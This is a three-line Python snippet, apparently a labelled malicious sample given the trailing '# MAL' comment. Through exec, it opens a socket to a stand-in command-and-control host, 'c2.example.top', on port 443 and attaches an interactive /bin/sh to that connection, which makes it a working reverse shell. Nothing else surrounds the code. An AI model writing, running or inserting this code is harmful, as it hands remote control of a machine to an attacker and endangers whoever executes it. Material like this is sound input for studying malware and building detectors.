import os
host = "c2.example.top"
exec(f"import socket,subprocess;s=socket.socket();s.connect(('{host}',443));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())")  # MAL
